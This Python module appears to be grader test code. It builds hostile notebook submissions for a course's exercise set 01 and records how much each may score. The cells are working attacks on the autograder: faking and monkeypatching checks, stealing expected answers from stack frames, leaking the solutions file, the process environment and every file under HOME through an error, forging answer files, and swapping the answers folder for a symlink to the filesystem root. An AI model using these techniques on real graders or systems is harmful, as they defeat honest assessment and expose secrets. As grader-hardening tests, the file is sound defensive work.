"""Build the hostile submissions of issue 18 for set 01, one notebook per attack.

Each attack is a small cell (or a replaced answer) put into a submission. Those meant to win
points without solving start from *wrong* answers, so any point they earn is a point gained by
the attack; those meant to harm the run or leak start from the solution, so they must keep the
honest score (minus what they broke of their own). `build(folder)` writes them all as
`folder/<attack>/01-digital-natives-exercises.ipynb` and returns what each must score.
"""

from __future__ import annotations

import copy
from pathlib import Path

import nbformat

from teachkit.authoring.exercise_set import nbgrader_meta

ROOT = Path(__file__).resolve().parents[1]
SET = "01-digital-natives"
SOLUTION = ROOT / "solutions" / f"{SET}-solutions.ipynb"
HONEST = 8.0  # all automatic points of set 01

WRONG_ANSWERS = {
    "eu-series-answer": 'eu_series = networks.head(3).set_index("year")[["percent", "percent"]]\neu_series',
    "gap-change-answer": "gap_change_pp = 1.0\ngap_change_pp",
    "registered-answer": "registered_65plus = 1\nregistered_65plus",
    "right-source-answer": 'right_source = "S1"\nright_source',
}

# ------------------------------------------------------------------ points without solving

ENV = 'import os\nos.environ["TEACHKIT_GRADING"] = "0"\nos.environ["TEACHKIT_CHECK_LOG"] = "/dev/null"'
INPUT_TRANSFORMER = (
    "get_ipython().input_transformers_cleaned.append(\n"
    "    lambda lines: ['pass\\n'] if any('check' in l or 'export' in l for l in lines) else lines)"
)
AST_TRANSFORMER = """import ast
class Gut(ast.NodeTransformer):
    def visit_Module(self, node):
        if any('check' in ast.dump(n) for n in node.body):
            node.body = [ast.Pass()]
        return node
get_ipython().ast_transformers.append(Gut())"""
POST_RUN_HOOK = "get_ipython().events.register('post_run_cell', lambda r: setattr(r, 'error_in_exec', None))"
DO_EXECUTE = """k = get_ipython().kernel
_real = k.do_execute
async def fake(code, *args, **kwargs):
    if 'check' in code or 'export' in code:
        return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
    return await _real(code, *args, **kwargs)
k.do_execute = fake"""
RUN_CELL = """ip = get_ipython()
_real_run = ip.run_cell
def fake(raw_cell, *args, **kwargs):
    if 'check' in raw_cell:
        raw_cell = 'pass'
    return _real_run(raw_cell, *args, **kwargs)
ip.run_cell = fake"""
FAKE_MODULES = """import sys, types, importlib, builtins, json, os
fake = types.ModuleType("teachkit.checks")
fake.check = lambda *a, **k: None
sys.modules["teachkit.checks"] = fake
importlib.reload = lambda module: fake
class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith("teachkit"):
            return importlib.util.spec_from_loader(name, loader=None)
        return None
sys.meta_path.insert(0, Finder())
_real_import = builtins.__import__
def fake_import(name, *args, **kwargs):
    if name.startswith("teachkit"):
        return fake
    return _real_import(name, *args, **kwargs)
builtins.__import__ = fake_import
fake.grading = types.SimpleNamespace(plain=types.SimpleNamespace(export=lambda task, names, ns: open(
    os.path.join(os.environ["TEACHKIT_ANSWERS"], task + ".json"), "w").write(json.dumps(
    {"task": task, "values": {n: {"t": "float", "v": 1.0} for n in names},
     "checks": [{"label": task, "passed": True}], "status": "passed", "points": 99}))))"""
SETTRACE = """import sys
def tracer(frame, event, arg):
    if event == 'call' and frame.f_code.co_name in ('check', 'inspect', 'compare', 'export'):
        frame.f_trace_lines = True
    return None
sys.settrace(tracer)"""
ISCLOSE = """import math, numpy as np, pandas as pd
math.isclose = lambda *a, **k: True
np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), dtype=bool)
np.allclose = lambda *a, **k: True
pd.DataFrame.equals = lambda self, other: True"""
SNEAKY = """import inspect as _inspect
def _find(name):
    frame = _inspect.currentframe()
    while frame is not None:
        if name in frame.f_locals:
            return frame.f_locals[name]
        frame = frame.f_back
    return None
class SneakyFloat(float):
    def __float__(self):
        found = _find('_expected') or _find('want')
        return float(found) if found is not None else 0.0
    def __eq__(self, other):
        return True
    __hash__ = float.__hash__
class SneakyStr(str):
    def strip(self, *args):
        found = _find('expected')
        return found.strip() if isinstance(found, str) else str.strip(self)
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
class Pretender:
    @property
    def __class__(self):
        return int
    def __index__(self):
        return _find('_expected') or 0
    def __eq__(self, other):
        return True
gap_change_pp = SneakyFloat(0.0)
right_source = SneakyStr("S1")
registered_65plus = Pretender()"""
SNEAKY_ANSWERS = {
    "gap-change-answer": "gap_change_pp = SneakyFloat(0.0)\ngap_change_pp",
    "registered-answer": "registered_65plus = Pretender()",
    "right-source-answer": 'right_source = SneakyStr("S1")\nright_source',
}
DATA_REWRITE = """import os, pandas as pd
from teachkit import data
path = os.path.join(os.environ["TEACHKIT_COURSE_ROOT"], "data", "social_networks_by_age.csv")
table = pd.read_csv(path)
table["percent"] = 50.0
table.to_csv(path, index=False)
networks = data.load("social_networks_by_age")"""

# ------------------------------------------------------------------ leaks

LEAK_HOOK = """import base64, json, os, zlib
seen = []
get_ipython().events.register('pre_run_cell', lambda info: seen.append(info.raw_cell))
def grab(path):
    try:
        with open(path, encoding='utf-8', errors='replace') as handle:
            return handle.read()[:200000]
    except OSError as problem:
        return repr(problem)
"""
LEAK_RAISE = """for name in ("solutions/01-digital-natives-solutions.ipynb", "../solutions", "/proc/self/environ"):
    seen.append(grab(name))
for root, _, files in os.walk(os.environ.get("HOME", ".")):
    seen += [grab(os.path.join(root, f)) for f in files if not f.endswith(".csv")]
blob = base64.b64encode(zlib.compress(json.dumps(seen).encode())).decode()
print(blob)
raise RuntimeError(blob)"""

# ------------------------------------------------------------------ harm to the run

FORGE = """import json, os
folder = os.environ["TEACHKIT_ANSWERS"]
def put(task, text):
    path = os.path.join(folder, task + ".json")
    if os.path.lexists(path):
        os.remove(path)
    return path
with open(put("eu-series", ""), "w") as handle:
    handle.write('{"task": "eu-series", "values": {"eu_series": ' + '[' * 100000 + ']' * 100000 + '}}')
with open(put("gap-change", ""), "w") as handle:
    handle.write('{"task": "gap-change", "values": {"gap_change_pp": {"t": "str", "v": "' + 'x' * 5_000_000 + '"}}}')
os.mkfifo(put("registered", ""))
os.symlink(os.path.abspath("../../solutions/01-digital-natives-solutions.ipynb"), put("right-source", ""))"""
FORGE_FOLDER = """import os, shutil
folder = os.environ["TEACHKIT_ANSWERS"]
shutil.rmtree(folder)
os.symlink("/", folder)"""
ERROR_FLOOD = """ip = get_ipython()
try:
    raise ValueError("x" * 20_000)
except ValueError:
    for _ in range(250):  # 5 MB of errors, fast enough for the cell timeout
        ip.showtraceback()
from IPython.display import display, update_display
handle = display("start", display_id=True)
for _ in range(100):
    handle.update({"text/plain": "y" * 20_000})"""
SETSID_FORK = """import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
time.sleep(0.5)"""
SLOW_CELL = "import time\ntime.sleep(6)"
IMMUTABLE = """import fcntl, os, struct
path = os.path.join(os.environ["HOME"], "stuck.txt")
with open(path, "w") as handle:
    handle.write("x")
fd = os.open(path, os.O_RDONLY)
try:
    fcntl.ioctl(fd, 0x40086602, struct.pack("i", 0x10))  # FS_IOC_SETFLAGS: immutable
except OSError:
    pass
os.close(fd)"""


def _solution() -> object:
    return nbformat.read(SOLUTION, as_version=4)


def _answers(notebook: object, sources: dict[str, str]) -> object:
    for cell in notebook.cells:
        gid = nbgrader_meta(cell).get("grade_id")
        if gid in sources:
            cell.source = sources[gid]
    return notebook


def _after(notebook: object, grade_id: str, *sources: str) -> object:
    for index, cell in enumerate(notebook.cells):
        if nbgrader_meta(cell).get("grade_id") == grade_id:
            for offset, source in enumerate(sources, 1):
                notebook.cells.insert(index + offset, nbformat.v4.new_code_cell(source))
            return notebook
    raise KeyError(grade_id)


def _wrong(*cells: str) -> object:
    return _after(_answers(_solution(), WRONG_ANSWERS), "setup", *cells)


def attacks() -> dict[str, tuple[object, float]]:
    """attack name -> (notebook, the most it may score)."""
    return {
        "env-grading-off": (_wrong(ENV), 0),
        "input-transformer": (_wrong(INPUT_TRANSFORMER), 0),
        "ast-transformer": (_wrong(AST_TRANSFORMER), 0),
        "post-run-hook": (_wrong(POST_RUN_HOOK), 0),
        "do-execute": (_wrong(DO_EXECUTE), 0),
        "run-cell": (_wrong(RUN_CELL), 0),
        "fake-modules": (_wrong(FAKE_MODULES), 0),
        "settrace": (_wrong(SETTRACE), 0),
        "isclose": (_wrong(ISCLOSE), 0),
        "sneaky-objects": (_answers(_wrong(SNEAKY), SNEAKY_ANSWERS), 0),
        # right_source does not depend on the percentages: that one point is honest
        "data-rewrite": (_after(_solution(), "setup", DATA_REWRITE), 1),
        # eu_series left undefined, so the task's reason quotes the failing cell before it
        "leak": (
            _after(
                _answers(_after(_solution(), "setup", LEAK_HOOK), {"eu-series-answer": "pass"}),
                "eu-series-answer",
                LEAK_RAISE,
            ),
            HONEST - 3,
        ),
        "forge-answers": (_after(_solution(), "right-source", FORGE), 0),
        "forge-folder": (_after(_solution(), "right-source", FORGE_FOLDER), 0),
        "error-flood": (_after(_solution(), "setup", ERROR_FLOOD), HONEST),
        "setsid-fork": (_after(_solution(), "setup", SETSID_FORK), HONEST),
        "slow-cells": (_after(_solution(), "setup", *[SLOW_CELL] * 6), 0),
        "immutable-file": (_after(_solution(), "setup", IMMUTABLE), HONEST),
    }


def build(folder: Path) -> dict[str, float]:
    """Write every attack (and the honest solution as `honest`); return each one's ceiling."""
    ceilings = {}
    for name, (notebook, ceiling) in {"honest": (_solution(), HONEST), **attacks()}.items():
        notebook = copy.deepcopy(notebook)
        for cell in notebook.cells:
            if cell.cell_type == "code":
                cell.outputs, cell.execution_count = [], None
        (folder / name).mkdir(parents=True)
        nbformat.write(notebook, folder / name / f"{SET}-exercises.ipynb")
        ceilings[name] = ceiling
    return ceilings
